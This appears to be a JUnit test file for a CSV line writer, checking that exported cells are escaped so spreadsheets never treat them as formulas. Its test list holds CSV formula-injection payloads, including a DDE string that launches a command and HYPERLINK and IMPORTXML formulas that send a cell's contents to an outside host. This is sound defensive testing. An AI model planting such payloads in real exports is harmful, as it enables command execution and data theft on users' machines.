package bg.glashatay.web.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The file says what the list says, to every program, and no spreadsheet carries any of it out. */
class CsvLineTest {

    private static final Pattern FORMULA = Pattern.compile("[=+\\-@\\t\\r＝＋－＠].*", Pattern.DOTALL);

    static Stream<String> attacks() {
        return Stream.of(
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(A1:A9)",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.org/?\"&A1,\"Виж\")",
                "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\r\n=1+1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(A1)",
                "текст;=1+1",
                "текст;+1;@a;-2",
                "текст\n=1+1",
                "текст\t@SUM(A1)",
                "\"=1+1",
                "\";=1+1;\"",
                "\",=1+1,\"",
                "'=1+1;=2",
                "-",
                "=",
                "==1",
                "=\"a\"\"b\"");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void noCellIsAFormula(String attack) {
        var line = CsvLine.of(List.of("author", attack, "край"));

        assertThat(cells(line, ',')).hasSize(3).noneMatch(FORMULA.asMatchPredicate());
    }

    /** Excel separates by semicolons in Bulgarian, and reads quotes only where a cell begins with one. */
    @ParameterizedTest
    @MethodSource("attacks")
    void noCellIsAFormulaWhereSemicolonsSeparate(String attack) {
        var line = CsvLine.of(List.of("author", attack, "край"));

        assertThat(line.split("[;\t\r\n]")).noneMatch(FORMULA.asMatchPredicate());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Грешен час.",
                "Решение № 117 – „безплатен транспорт“",
                "с „кавички\", запетая и\r\nнов ред",
                " с шпации ",
                "a,b",
                "\"",
                "\"\"",
                "",
                "content-rejected",
                "3 - 2 = 1",
                "👩‍🏫"
            })
    void harmlessTextComesBackAsItWas(String text) {
        assertThat(cells(CsvLine.of(List.of("a", text, "z")), ',')).containsExactly("a", text, "z");
    }

    @Test
    void timesAreThoseOfGreenwichToTheMicrosecond() {
        assertThat(CsvLine.of(List.of(Instant.parse("2026-10-25T00:30:00.000001999Z"), 42L, true)))
                .isEqualTo("2026-10-25T00:30:00.000001Z,42,true\r\n");
    }

    @Test
    void whatIsMissingIsEmpty() {
        assertThat(CsvLine.of(Arrays.asList("a", null, ""))).isEqualTo("a,,\r\n");
    }

    /** Reads a line as RFC 4180 says. */
    private static List<String> cells(String line, char separator) {
        assertThat(line).endsWith("\r\n");
        var cells = new ArrayList<String>();
        var cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < line.length() - 2; i++) {
            char c = line.charAt(i);
            if (c == '"' && quoted && i + 1 < line.length() && line.charAt(i + 1) == '"') {
                cell.append('"');
                i++;
            } else if (c == '"') {
                quoted = !quoted;
            } else if (c == separator && !quoted) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        assertThat(quoted).as("a cell that does not end").isFalse();
        cells.add(cell.toString());
        return cells;
    }
}
